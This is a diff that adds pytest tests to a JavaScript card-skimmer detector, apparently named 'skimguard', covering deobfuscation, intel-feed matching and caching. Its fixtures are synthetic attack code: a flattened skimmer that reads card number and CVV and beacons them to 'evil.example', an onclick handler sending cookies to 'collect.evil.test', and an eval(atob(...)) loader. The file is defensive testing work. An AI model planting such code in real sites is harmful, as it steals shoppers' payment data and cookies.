@@ -5,13 +5,16 @@ Fixtures are written here (synthetic); exact verdicts, rule IDs and file positio
 
 from __future__ import annotations
 
+import base64
 import hashlib
+from collections.abc import Iterable
+from typing import Any
 
 import pytest
 
-from skimguard.analyze import engine
+from skimguard.analyze import engine, structure, triage, yara_rules
 from skimguard.analyze.engine import MALICIOUS_AT, Options, analyze_bytes, catalog, judge
-from skimguard.analyze.model import CodeHit, Language, Layer, Verdict
+from skimguard.analyze.model import CodeHit, Language, Layer, Segment, Verdict
 from skimguard.intel import IntelIndex, parse_feed
 from skimguard.models import Confidence, Severity
 
@@ -175,3 +178,120 @@ def test_intel_keeps_the_first_indicator_as_written_and_falls_back_to_decoded_te
     page = f"<html>\n<body>\n<script>\nload('{url}');\n</script>\n</body>\n</html>\n"
     in_page = next(h for h in analyze_bytes(page.encode(), "p.html", feed).hits if h.rule_id == "SG450")
     assert (in_page.normalized, in_page.line, in_page.column) == (False, 4, 7)
+
+
+# --- issue 4: gaps closed, and the speed-ups keep results ---------------------------------------
+
+FLATTENED = (
+    'document.addEventListener("blur", function () {\n'
+    "  var o = '2|0|1'.split('|'), i = 0;\n"
+    "  while (!![]) {\n"
+    "    switch (o[i++]) {\n"
+    '      case "0": var d = btoa(document.getElementById("cc_number").value + "|"'
+    ' + document.getElementById("cvv").value); continue;\n'
+    '      case "1": new Image().src = "https://evil.example/gate.php?d=" + d; continue;\n'
+    '      case "2": if (location.href.indexOf("checkout") < 0) { return; } continue;\n'
+    "    }\n"
+    "    break;\n"
+    "  }\n"
+    "}, true);\n"
+)
+
+
+def test_a_loader_through_this_brackets_is_decoded_and_convicted() -> None:
+    hidden = "this['eval'](this['atob']('" + base64.b64encode(SKIMMER.encode()).decode() + "'));"
+    v = analyze_bytes(hidden.encode(), "loader.js")
+    assert v.verdict is Verdict.MALICIOUS
+    assert {"decoded:atob", "decoded:bracket-member", "decoded:eval-literal"} <= set(v.traits)
+    sg440 = next(h for h in v.hits if h.rule_id == "SG440")
+    assert (sg440.severity, sg440.normalized) == (Severity.CRITICAL, True)
+
+
+def test_a_flattened_skimmer_is_reordered_and_convicted() -> None:
+    v = analyze_bytes(FLATTENED.encode(), "assist.js")
+    assert v.verdict is Verdict.MALICIOUS and "decoded:control-flow" in v.traits
+    assert [(h.rule_id, h.severity) for h in v.hits if h.layer is Layer.STRUCTURE] == [("SG440", Severity.CRITICAL)]
+
+
+def test_flattened_code_is_no_blind_spot_for_the_structure_layer() -> None:
+    # even as written, in case order, the statements are in one function: the combination is seen
+    assert [(h.rule_id, h.severity) for h in structure.structure_hits(FLATTENED)] == [("SG440", Severity.CRITICAL)]
+
+
+def test_javascript_without_extension_naming_a_script_tag_is_analysed_as_javascript() -> None:
+    code = "var tag = '<script src=\"https://cdn.example/x.js\"></script>';\n" + SKIMMER
+    v = analyze_bytes(code.encode(), "cache/7f3a9c")
+    assert (v.language, v.verdict) == (Language.JS, Verdict.MALICIOUS)
+    assert next(h for h in v.hits if h.rule_id == "SG440").line == 5  # the skimmer's sink, in the file
+
+
+def test_identical_segments_are_analysed_once(monkeypatch: pytest.MonkeyPatch) -> None:
+    handler = "<button onclick=\"navigator.sendBeacon('https://collect.evil.test/c', document.cookie)\">Pay</button>\n"
+    seen: list[str] = []
+    real = engine._segment_hits
+
+    def counting(segment: Segment, *args: Any) -> Iterable[CodeHit]:
+        seen.append(segment.origin)
+        return real(segment, *args)
+
+    monkeypatch.setattr(engine, "_segment_hits", counting)
+    once = analyze_bytes(("<p>\n" + handler).encode(), "a.html")
+    seen.clear()
+    thrice = analyze_bytes(("<p>\n" + handler * 3).encode(), "b.html")
+    assert seen == ["file", "handler:onclick"]  # the second and third button add nothing
+    assert [(h.rule_id, h.line, h.column) for h in thrice.hits] == [(h.rule_id, h.line, h.column) for h in once.hits]
+    assert once.hits and thrice.verdict is once.verdict
+
+
+def test_rule_hits_of_small_segments_are_remembered_across_files() -> None:
+    small = "new Image().src = 'https://x.test/?c=' + document.cookie; // remembered"
+    expected = yara_rules.scan_rules(small, language=Language.JS)
+    assert expected  # the handler has hits
+    engine._small_segment_rules.cache_clear()
+    assert engine._rules(small, Language.JS, []) == expected  # scanned
+    assert engine._rules(small, Language.JS, []) == expected  # remembered
+    assert engine._small_segment_rules.cache_info()[:2] == (1, 1)  # one hit, one miss
+    large = small + " " * engine.SMALL_SEGMENT_CHARS
+    assert engine._rules(large, Language.JS, []) == yara_rules.scan_rules(large, language=Language.JS)
+    assert engine._small_segment_rules.cache_info()[:2] == (1, 1)  # a large text is scanned each time
+
+
+def test_intel_scans_a_php_file_once_for_all_its_blocks(monkeypatch: pytest.MonkeyPatch) -> None:
+    index = IntelIndex.build(parse_feed("evil-cdn.test\n", "feed").indicators)
+    calls: list[int] = []
+    real = triage.intel_prefilter(index)
+
+    def counting(text: str) -> bool:
+        calls.append(len(text))
+        return real(text)
+
+    monkeypatch.setattr(triage, "intel_prefilter", lambda intel: counting)
+    blocks = "".join(f"<?php $a{i} = {i}; ?>\n" for i in range(5))
+    clean = analyze_bytes(blocks.encode(), "x.php", Options(intel=index))
+    assert (clean.verdict, len(calls)) == (Verdict.CLEAN, 1)  # one scan of the file, not five of blocks
+    calls.clear()
+    listed = blocks + "<?php $u = 'https://static.evil-cdn.test/k.js'; ?>\n"
+    hit = next(h for h in analyze_bytes(listed.encode(), "x.php", Options(intel=index)).hits if h.rule_id == "SG450")
+    assert (hit.line, hit.column, hit.normalized) == (6, 13, False)  # where the URL starts
+
+
+def test_a_php_files_markup_needs_no_scan_of_its_own_when_no_needle_holds_a_blank(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    index = IntelIndex.build(parse_feed("evil-cdn.test\n", "feed").indicators)
+    scanned: list[str] = []
+    real = triage.IntelPrefilter.__call__
+
+    def counting(self: triage.IntelPrefilter, text: str) -> bool:
+        scanned.append(text[:12])
+        return real(self, text)
+
+    monkeypatch.setattr(triage.IntelPrefilter, "__call__", counting)
+    assert triage.intel_prefilter(index).spaceless
+    page = "<html><body>\n<?php echo $a; ?>\n<script>go('/x');</script>\n<?php $b = 1; ?>\n</body></html>\n"
+    v = analyze_bytes(page.encode(), "page.php", Options(intel=index))
+    assert (v.verdict, scanned) == (Verdict.CLEAN, ["<html><body>"])  # the file, once
+    scanned.clear()
+    listed = page.replace("go('/x')", "go('https://evil-cdn.test/x')")
+    hit = next(h for h in analyze_bytes(listed.encode(), "page.php", Options(intel=index)).hits if h.rule_id == "SG450")
+    assert (hit.line, hit.column) == (3, 13)
